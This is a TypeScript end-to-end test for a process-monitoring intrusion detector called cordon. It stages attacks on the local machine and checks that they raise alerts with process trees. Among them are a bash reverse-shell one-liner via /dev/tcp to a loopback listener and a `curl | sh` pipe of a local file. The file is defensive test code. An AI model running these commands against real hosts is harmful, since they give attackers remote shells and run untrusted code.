/**
 * Process monitoring end to end on real Kafka: the agent reads the kernel's process events,
 * publishes them signed on `cordon.processes.v1` (the coordinator registered its key at
 * enrollment), procinspect runs the rules and alerts carry the process tree. The attacks are
 * performed for real, all on this machine: a shell spawned by a process named nginx, `curl … |
 * sh` of a local file, an executable run from /tmp, a reverse shell to a listener on
 * 127.0.0.1; then 1,000 short-lived processes, all seen. Needs root (the connector); skips
 * cleanly without it.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { chmodSync, copyFileSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createContext, silentLogger } from '@cordon/runtime';
import { createKafkaBus, readAll, readTable } from '@cordon/bus';
import { allTopicSpecs, codecFor, TOPICS, type Alert, type ProcessEvent } from '@cordon/schemas';
import { agentStage, makeEnrollToken } from '@cordon/agent';
import { coordinatorStage } from '@cordon/coordinator';
import { procinspectStage } from '@cordon/procinspect';
import { runStage } from '@cordon/stage';
import { freshCordonTopics, kafkaBrokers, putRunningVm, writeEnrollSecret } from '@cordon/testkit';

const skip = process.getuid?.() === 0 ? false : 'needs root (the process events connector needs CAP_NET_ADMIN)';
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

interface Tree {
  tree: Array<{ pid: number; image: string; command_line: string }>;
  command_line: string;
  image: string;
  parent_image: string;
}

function run(cmd: string, args: string[], opts: { cwd?: string } = {}): Promise<{ pid: number; code: number | null }> {
  return new Promise((resolve, reject) => {
    const p = spawn(cmd, args, { stdio: 'ignore', ...opts });
    p.on('error', reject);
    p.on('exit', (code) => resolve({ pid: p.pid!, code }));
  });
}

test(
  'attacks on a guest raise process alerts with their tree, and 1,000 short processes are all seen (real Kafka)',
  { skip, timeout: 240_000 },
  async () => {
    const brokers = kafkaBrokers();
    await freshCordonTopics(brokers);
    const ctx = createContext({ log: silentLogger });
    const bus = createKafkaBus({ brokers, ctx });
    await bus.admin.ensureTopics(allTopicSpecs());
    const dir = mkdtempSync(join(tmpdir(), 'cordon-proc-e2e-'));
    const { secret, file: secretFile } = writeEnrollSecret(dir);
    await putRunningVm(bus, 'vm-web-1', ['10.1.0.5']);
    const coordinator = await runStage(coordinatorStage, {
      bus,
      ctx,
      config: { enrollSecretFile: secretFile, tickMs: 100 },
      env: { dataDir: dir },
    });
    const inspector = await runStage(procinspectStage, { bus, ctx });
    const agent = await runStage(agentStage, {
      bus,
      ctx,
      config: {
        token: makeEnrollToken(secret, 'vm-web-1', 3_600_000, Date.now()),
        stateDir: join(dir, 'state'),
        enforce: { enabled: false },
        netconf: { enabled: false },
        heartbeatS: 1,
        processes: { enabled: true, mode: 'connector' },
      },
    });
    const listener = createServer();
    const sockets: Socket[] = [];
    try {
      assert.equal(agent.processes?.mode, 'connector');
      // the coordinator has the agent's key before the attacks (else the first events are refused)
      const until = Date.now() + 30_000;
      while (!(await readTable(bus, TOPICS.producers)).size) {
        assert.ok(Date.now() < until, 'the coordinator registered the agent');
        await sleep(200);
      }

      // 1. a shell spawned by a process named nginx (bash copied under that name: it forks sh)
      const nginx = join(dir, 'nginx');
      copyFileSync('/bin/bash', nginx);
      chmodSync(nginx, 0o755);
      await run(nginx, ['-c', 'sh -c "sleep 0.2"; true']);
      // 2. curl … | sh of a local file (never another address)
      const script = join(dir, 'install.sh');
      writeFileSync(script, 'sleep 0.2\n');
      await run('/bin/sh', ['-c', `curl -s file://${script} | sh`]);
      // 3. an executable run from /tmp
      const payload = join(dir, 'payload');
      copyFileSync('/bin/sleep', payload);
      chmodSync(payload, 0o755);
      await run(payload, ['0.2']);
      // 4. a reverse shell to a listener of ours on loopback, which sends it `exit`
      let connected = false;
      listener.on('connection', (s) => {
        connected = true;
        sockets.push(s);
        s.on('error', () => undefined);
        s.write('exit\n');
      });
      await new Promise<void>((r) => listener.listen(0, '127.0.0.1', () => r()));
      const port = (listener.address() as { port: number }).port;
      await run('/bin/bash', ['-c', `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`]);
      assert.ok(connected, 'the reverse shell reached the listener');

      const expected: Record<string, (t: Tree) => void> = {
        'cordon:cordon-proc-service-shell': (t) => {
          assert.equal(t.parent_image, nginx);
          assert.match(t.image, /\/(da|ba)?sh$/);
          assert.equal(t.tree[1]!.image, nginx, 'the tree names nginx as the parent');
        },
        'cordon:cordon-proc-download-pipe-shell': (t) => {
          assert.equal(t.command_line, `/bin/sh -c curl -s file://${script} | sh`);
        },
        'cordon:cordon-proc-exec-tmp': (t) => {
          assert.ok(t.tree.some((p) => p.image === payload || p.image === nginx));
        },
        'cordon:cordon-proc-reverse-shell': (t) => {
          assert.match(t.command_line, new RegExp(`/dev/tcp/127\\.0\\.0\\.1/${port}`));
        },
      };
      const found = new Map<string, Alert>();
      const deadline = Date.now() + 60_000;
      while (found.size < Object.keys(expected).length && Date.now() < deadline) {
        for (const r of await readAll(bus, TOPICS.alerts)) {
          const a = codecFor(TOPICS.alerts).decode(r.value!);
          if (a.stage !== 'procinspect' || !(a.rule_id in expected)) continue;
          const t = JSON.parse(a.evidence) as Tree;
          // the exec-tmp rule also fires for the nginx copy (it lives in /tmp too): keep the payload's
          if (a.rule_id === 'cordon:cordon-proc-exec-tmp' && t.image !== payload) continue;
          found.set(a.rule_id, a);
        }
        if (found.size < Object.keys(expected).length) await sleep(500);
      }
      for (const [rule, check] of Object.entries(expected)) {
        const a = found.get(rule);
        assert.ok(a, `${rule} raised (found: ${[...found.keys()].join(', ')})`);
        assert.equal(a.vm, 'vm-web-1');
        assert.equal(a.sensor, `agent:${agent.agentId}`);
        const t = JSON.parse(a.evidence) as Tree;
        assert.ok(t.tree.length >= 2, `${rule}: a tree above the process: ${JSON.stringify(t.tree)}`);
        assert.ok(t.tree.some((p) => p.pid === process.pid) || t.tree.length <= 16, 'bounded tree');
        check(t);
        console.log(`# ${rule}: ${t.tree.map((p) => `${p.pid} ${p.image}`).join(' < ')}`);
      }

      // 5. 1,000 short-lived processes, each seen, published and readable on the topic
      const { pid: shPid } = await run('/bin/sh', ['-c', 'i=0; while [ $i -lt 1000 ]; do /bin/true; i=$((i+1)); done']);
      let seen = 0;
      const until2 = Date.now() + 60_000;
      while (Date.now() < until2) {
        seen = 0;
        for (const r of await readAll(bus, TOPICS.processes)) {
          const e: ProcessEvent = codecFor(TOPICS.processes).decode(r.value!);
          if (e.kind === 'exec' && e.ppid === shPid) seen++;
        }
        if (seen >= 1000) break;
        await sleep(500);
      }
      console.log(`# 1,000 /bin/true through the agent and Kafka: ${seen} exec events on ${TOPICS.processes}`);
      assert.equal(seen, 1000);
      const st = agent.processes!.status();
      assert.equal(st.dropped, 0, 'nothing dropped');
      // the heartbeat says which mode runs
      const hb = [...(await readTable(bus, TOPICS.agents)).values()]
        .map((r) => codecFor(TOPICS.agents).decode(r.value!))
        .find((r) => r.agent === agent.agentId)!;
      assert.equal(hb.processes?.mode, 'connector');
      assert.ok((hb.processes?.published ?? 0) > 0);
      // nothing was refused as unsigned or misbound on the way
      const dlq = (await readAll(bus, TOPICS.dlq)).map((r) => codecFor(TOPICS.dlq).decode(r.value!));
      assert.deepEqual(
        dlq.filter((d) => d.source_topic === TOPICS.processes).map((d) => d.error_code),
        [],
      );
    } finally {
      for (const s of sockets) s.destroy();
      listener.close();
      await agent.stop();
      await inspector.stop();
      await coordinator.stop();
      await bus.close();
      rmSync(dir, { recursive: true, force: true });
    }
  },
);
